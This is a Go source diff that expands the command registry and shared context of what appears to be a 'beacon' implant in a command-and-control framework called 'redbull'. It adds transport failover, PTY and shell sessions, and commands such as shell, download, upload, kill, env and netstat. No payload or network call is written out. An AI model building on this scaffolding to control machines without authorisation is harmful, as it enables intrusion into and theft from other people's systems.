@@ -1,21 +1,57 @@
 package rbcmd
 
 import (
-	"redbull/internal/rbhttp"
+	"context"
+	"redbull/internal/rbhost"
+	"redbull/internal/rbpty"
+	"redbull/internal/rbshell"
+	"redbull/internal/rbtransport"
+	"sync"
 	"time"
 )
 
-// Command defines the interface that all commands must implement
+// Command defines the interface that all commands must implement. Their
+// help text is in rbusage.Commands, under the same name as in the registry.
 type Command interface {
-	Help() string
 	Execute(ctx *Context, cmd string) (string, string, error)
 }
 
 // Context holds shared state that commands can access and modify
 type Context struct {
-	CWD        *string
-	SleepTime  *time.Duration
-	HttpClient rbhttp.HttpClient
+	// Ctx is cancelled when the operator cancels the running task
+	Ctx       context.Context
+	SessionID string
+	Host      *rbhost.Info
+	CWD       *WorkingDir
+	SleepTime *time.Duration
+	Transport rbtransport.Transport
+	Upstreams *rbtransport.Failover
+	Ptys      *rbpty.Manager
+	// ShellSession is the shell shellsession tasks share
+	ShellSession *rbshell.Shell
+}
+
+// WorkingDir is the beacon's tracked working directory. Concurrent tasks
+// share it, so it is only read and changed under its lock.
+type WorkingDir struct {
+	path string
+	sync.Mutex
+}
+
+func NewWorkingDir(path string) *WorkingDir {
+	return &WorkingDir{path: path}
+}
+
+func (d *WorkingDir) Get() string {
+	d.Lock()
+	defer d.Unlock()
+	return d.path
+}
+
+func (d *WorkingDir) Set(path string) {
+	d.Lock()
+	defer d.Unlock()
+	d.path = path
 }
 
 // Registry is a map of command names to Command implementations
@@ -25,15 +61,38 @@ var registry Registry
 
 func init() {
 	registry = Registry{
-		"shell":    &ShellCommand{},
-		"pwd":      &PwdCommand{},
-		"cd":       &CdCommand{},
-		"ls":       &LsCommand{},
-		"status":   &StatusCommand{},
-		"sleep":    &SleepCommand{},
-		"help":     &HelpCommand{},
-		"download": &DownloadCommand{},
-		"upload":   &UploadCommand{},
+		"shell":        &ShellCommand{},
+		"shellsession": &ShellsessionCommand{},
+		"pwd":          &PwdCommand{},
+		"cd":           &CdCommand{},
+		"ls":           &LsCommand{},
+		"status":       &StatusCommand{},
+		"sleep":        &SleepCommand{},
+		"help":         &HelpCommand{},
+		"download":     &DownloadCommand{},
+		"upload":       &UploadCommand{},
+		"upstream":     &UpstreamCommand{},
+		"cat":          &CatCommand{},
+		"mkdir":        &MkdirCommand{},
+		"rm":           &RmCommand{},
+		"mv":           &MvCommand{},
+		"cp":           &CpCommand{},
+		"stat":         &StatCommand{},
+		"find":         &FindCommand{},
+		"hash":         &HashCommand{},
+		"touch":        &TouchCommand{},
+		"ps":           &PsCommand{},
+		"kill":         &KillCommand{},
+		"pstree":       &PstreeCommand{},
+		"env":          &EnvCommand{},
+		"whoami":       &WhoamiCommand{},
+		"id":           &IdCommand{},
+		"hostinfo":     &HostinfoCommand{},
+		"ifconfig":     &IfconfigCommand{},
+		"netstat":      &NetstatCommand{},
+		"resolve":      &ResolveCommand{},
+		"tcpcheck":     &TcpcheckCommand{},
+		"pty":          &PtyCommand{},
 	}
 }
 